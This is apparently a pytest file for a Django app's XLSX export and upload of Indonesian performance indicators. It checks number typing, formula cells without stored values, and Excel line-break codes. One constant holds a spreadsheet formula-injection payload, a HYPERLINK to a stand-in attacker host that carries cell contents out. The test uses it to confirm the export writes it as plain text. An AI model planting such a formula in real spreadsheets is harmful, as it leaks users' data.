"""XLSX cells as a clerk expects them (issue 29, item 11c and d): an export writes a number as a
number, so a column sums, and text as text, never a formula; an upload's formula cell whose value
the file does not hold is named by sheet, row and column with the formula it holds."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from iku import xlsx
from tests.factories import client_for
from tests.iku.test_xlsx import PUBLISHED, assert_typed_kept, draft_of, post_file, upload, workbook
from workflow.steps import STEP_BY_NUMBER

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
ROWS = [
    # indikator, satuan, target
    ("Cakupan JKN", "persen", "98"),
    ("Usia harapan hidup", "tahun", "71,24"),
    ("Jumlah peserta", "orang", "1.250,5"),
    ("Indeks ketimpangan", "indeks", "-5"),
    ("Usia harapan hidup akhir periode", "tahun", "71,24 (akhir RPJMD 2023)"),
    (HOSTILE, "007", "Predikat A"),
]


@pytest.fixture
def sent(people, walk):
    dossier = walk(STEP_BY_NUMBER[3].state)
    posted = {"revision": dossier.revision, "state": dossier.state}
    for index, (indikator, satuan, target) in enumerate(ROWS, start=1):
        posted |= {f"r-{index}-indikator": indikator, f"r-{index}-satuan": satuan, f"r-{index}-target": target,
                   f"r-{index}-sasaran_strategis": "Meningkatnya derajat kesehatan" if index == 1 else ""}
    response = client_for(people, "dinkes").post(f"/dosier/{dossier.pk}/aksi/ajukan_iku/", posted)
    assert response.status_code == 302
    return dossier


def cells_by_heading(sheet) -> dict[str, list]:
    headings = [cell.value for cell in sheet[1]]
    return {heading: [row[index] for row in sheet.iter_rows(min_row=2)] for index, heading in enumerate(headings)}


def check_sheet(sheet):
    columns = cells_by_heading(sheet)
    targets = columns["Target"]
    assert [cell.value for cell in targets] == [98, 71.24, 1250.5, -5, "71,24 (akhir RPJMD 2023)", "Predikat A"]
    assert [cell.data_type for cell in targets] == ["n", "n", "n", "n", "s", "s"]
    assert [cell.number_format for cell in targets[:4]] == ["General", "0.00", "#,##0.0", "General"]
    assert sum(cell.value for cell in targets if cell.data_type == "n") == pytest.approx(98 + 71.24 + 1250.5 - 5)
    assert [cell.value for cell in columns["No"]] == [1, 2, 3, 4, 5, 6]
    assert all(cell.data_type == "n" for cell in columns["No"])
    # Text stays text: a code with a leading zero, the agency, and a cell that looks like a formula.
    satuan = columns["Satuan"]
    assert satuan[5].value == "007" and satuan[5].data_type == "s"
    indikator = columns["Indikator Kinerja Utama"]
    assert indikator[5].value == HOSTILE and indikator[5].data_type == "s"
    assert all(cell.data_type == "s" for cell in columns["SKPD"])


def test_the_page_export_writes_numbers_as_numbers(people, sent):
    content = client_for(people, "kasubag").get(f"/dosier/{sent.pk}/iku/konsep/xlsx/").content
    check_sheet(load_workbook(io.BytesIO(content))["IKU"])


def test_the_export_command_writes_numbers_as_numbers(people, sent, tmp_path):
    call_command("export_iku", sent.pk, "--stage", "konsep", "-o", str(tmp_path / "iku.xlsx"))
    check_sheet(load_workbook(tmp_path / "iku.xlsx")["IKU"])


@pytest.mark.parametrize("text, expected", [
    ("98", (98, "General")), ("-5", (-5, "General")), ("71,24", (Decimal("71.24"), "0.00")),
    ("100.000", (100000, "#,##0")), ("1.250,50", (Decimal("1250.50"), "#,##0.00")), ("76.5", None), ("-0", None), ("-0,00", None),
    ("2026", (2026, "General")), ("007", None), ("5%", None), ("+3", None), ("=1+1", None), ("-", None),
    ("1234567890123456", None), ("71,24 (akhir RPJMD 2023)", None), ("", None),
])
def test_which_texts_are_numbers(text, expected):
    assert xlsx.number_cell(text) == expected


def formula_workbook(formula_cells: dict[str, str], lines=PUBLISHED) -> bytes:
    """A workbook as openpyxl (and some other programs) write it: formulas with no value stored."""
    book = Workbook()
    sheet = book.active
    sheet.title = "IKU"
    for line in lines:
        sheet.append(line)
    for ref, formula in formula_cells.items():
        sheet[ref] = formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_formula_cell_without_its_value_is_named_with_the_formula_and_nothing_is_kept(people, walk):
    dossier = walk(STEP_BY_NUMBER[3].state)
    content = formula_workbook({"F5": "=SUM(F4:F4)*2", "C6": '=CONCATENATE("Jumlah ","kasus")'})
    read = xlsx.read_upload(upload(content))
    advice = "ketik nilainya (atau salin lalu Tempel Nilai saja), simpan, lalu unggah lagi."
    # The indicator the formula should have given is not also called missing.
    assert [str(problem) for problem in read.problems] == [
        f"Lembar IKU, baris 5, kolom F: Sel ini berisi rumus =SUM(F4:F4)*2, tetapi nilainya tidak tersimpan di berkas; {advice}",
        "Lembar IKU, baris 6, kolom C: Sel ini berisi rumus =CONCATENATE(\"Jumlah \",\"kasus\"), tetapi nilainya "
        f"tidak tersimpan di berkas; {advice}",
    ]
    page = post_file(people, dossier, content).content.decode()
    assert_typed_kept(page)
    assert "baris 5, kolom F: Sel ini berisi rumus =SUM(F4:F4)*2" in page
    assert draft_of(people, dossier) == []


def as_excel_saves(content: bytes, *replacements) -> bytes:
    """The workbook with its sheet's XML edited: Excel stores each formula's last value beside it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                for old, new in replacements:
                    assert old in data
                    data = data.replace(old, new)
            target.writestr(item, data)
    return out.getvalue()


def test_a_formula_whose_value_the_file_holds_is_read_as_that_value():
    content = as_excel_saves(
        formula_workbook({"F5": "=SUM(F4:F4)*2", "D6": '=IF(F6="","","ada")'}),
        (b"<f>SUM(F4:F4)*2</f><v></v>", b"<f>SUM(F4:F4)*2</f><v>300</v>"),
        # A formula that gave an empty text: worked out, and empty.
        (b'<c r="D6"><f>', b'<c r="D6" t="str"><f>'),
    )
    read = xlsx.read_upload(upload(content))
    assert read.ok, [str(problem) for problem in read.problems]
    assert read.rows[1]["target"] == "300" and read.rows[2]["formula"] == ""


def test_a_shared_formula_is_named_as_it_reads_in_its_own_cell():
    content = as_excel_saves(
        formula_workbook({"E4": "=A4", "E5": "=A5"}),
        (b"<f>A4</f>", b'<f t="shared" ref="E4:E5" si="0">A4</f>'),
        (b"<f>A5</f>", b'<f t="shared" si="0"/>'),
    )
    read = xlsx.read_upload(upload(content))
    assert [(p.row, p.column) for p in read.problems] == [(4, "E"), (5, "E")]
    assert "rumus =A5," in str(read.problems[1])


def test_a_formula_outside_the_table_columns_is_no_concern():
    lines = [line + [None] * (9 - len(line)) if line else line for line in PUBLISHED]
    read = xlsx.read_upload(upload(formula_workbook({"I4": "=ROW()-3"}, lines)))
    assert read.ok, [str(problem) for problem in read.problems]


def test_an_ordinary_workbook_is_read_as_before():
    read = xlsx.read_upload(upload(workbook(PUBLISHED)))
    assert read.ok and len(read.rows) == 3


def test_a_line_break_excel_stored_as_a_code_is_read_as_a_line_break(people, walk):
    """A cell holding text pasted from another Windows program keeps its carriage returns, which Excel
    writes in the file as "_x000D_" (and a literal "_x" as "_x005F_x"): the grid showed the codes."""
    dossier = walk(STEP_BY_NUMBER[3].state)
    lines = [list(line) for line in PUBLISHED]
    lines[3][2] = "Usia harapan hidup_x000D_\n(UHH)"
    lines[4][3] = "Jumlah kematian ibu_x000D_per 100.000 KH"
    lines[5][2] = "Kasus kematian bayi (kode_x005F_x0041_)"
    read = xlsx.read_upload(upload(formula_workbook({}, lines)))
    assert read.ok, [str(problem) for problem in read.problems]
    assert [row["indikator"] for row in read.rows] == [
        "Usia harapan hidup\n(UHH)", "Angka kematian ibu", "Kasus kematian bayi (kode_x0041_)"]
    assert read.rows[1]["formula"] == "Jumlah kematian ibu\nper 100.000 KH"
    page = post_file(people, dossier, formula_workbook({}, lines)).content.decode()
    assert "3 baris dimuat" in page and "_x000D_" not in page
    assert ">Usia harapan hidup\n(UHH)</textarea>" in page
